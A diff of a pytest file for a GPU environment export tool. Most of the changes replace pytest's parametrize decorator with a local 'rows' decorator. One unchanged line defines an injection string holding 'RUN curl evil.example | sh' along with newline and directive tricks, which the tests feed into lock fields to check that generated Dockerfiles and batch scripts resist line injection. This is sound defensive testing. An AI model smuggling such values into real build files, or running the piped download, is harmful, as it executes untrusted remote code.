@@ -11,6 +11,7 @@ import pytest
 import tomllib
 from export_texts import CPU, document, instructions, sections
 from packaging.requirements import Requirement
+from rows import rows
 
 from provision import export
 from provision.errors import UsageError
@@ -22,7 +23,7 @@ def lines(text):
     return [x for x in text.splitlines() if x.strip() and not x.startswith(("#", "//"))]
 
 
-@pytest.mark.parametrize("form", el.VENV_FORMS)
+@rows("form", el.VENV_FORMS)
 def test_every_export_begins_with_what_it_holds_and_the_target(form):
     head = "\n".join(el.text(form).splitlines()[:14])
     assert "torch 2.14.1 (CUDA 12.6, cuDNN 9.10.2.21), Python 3.12" in head
@@ -30,7 +31,7 @@ def test_every_export_begins_with_what_it_holds_and_the_target(form):
     assert f"gpuenv export --format {form}" in head
 
 
-@pytest.mark.parametrize("form", el.CONDA_FORMS)
+@rows("form", el.CONDA_FORMS)
 def test_every_export_of_a_conda_lock_does(form):
     head = "\n".join(el.text(form, el.of_conda()).splitlines()[:14])
     assert "torch 2.7.1 (CUDA 12.9, cuDNN 9.10.1.4)" in head and "driver 550.54.15" in head
@@ -152,8 +153,8 @@ def of_variable(form, text):
     return subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True).stdout
 
 
-@pytest.mark.parametrize("made", [el.of(), el.of_conda()], ids=["venv", "conda"])
-@pytest.mark.parametrize("form", export.INSTALL_GPUENV)
+@rows("made", [el.of(), el.of_conda()], ids=["venv", "conda"])
+@rows("form", export.INSTALL_GPUENV)
 def test_gpuenv_comes_from_a_wheel_with_its_hash_or_an_address(form, made):
     found = Requirement(of_variable(form, el.text(form, made)))
     assert found.name == "gpuenv"
@@ -292,7 +293,7 @@ def test_a_batch_script_ends_where_the_proof_fails(tmp_path):
 EVIL = "x\nRUN curl evil.example | sh\r%post\n    evil\n- evil: true\n#SBATCH --evil"
 
 
-@pytest.mark.parametrize("form", [f for f in el.VENV_FORMS if f != "pylock"])
+@rows("form", [f for f in el.VENV_FORMS if f != "pylock"])
 def test_no_word_of_a_lock_begins_a_line_of_its_own(form):
     target = Target(platform="linux-x86_64", glibc=EVIL, driver=EVIL, gpus=(TargetGpu(capability=EVIL),))
     builds = (
@@ -314,7 +315,7 @@ def test_a_workflow_evaluates_no_expression_of_a_lock():
         el.text("github", el.of(target=target))
 
 
-@pytest.mark.parametrize(
+@rows(
     "form",
     ["dockerfile", "apptainer", "devcontainer", "github", "sbatch", "prolog", "taskprolog", "npd", "job"],
 )
@@ -324,7 +325,7 @@ def test_linux_is_asked_for_where_linux_is_meant(form):
         el.text(form, made)
 
 
-@pytest.mark.parametrize("form", ["requirements", "pylock"])
+@rows("form", ["requirements", "pylock"])
 def test_formats_for_pip_refuse_conda_packages(form):
     with pytest.raises(UsageError, match="conda packages"):
         el.text(form, el.of_conda())
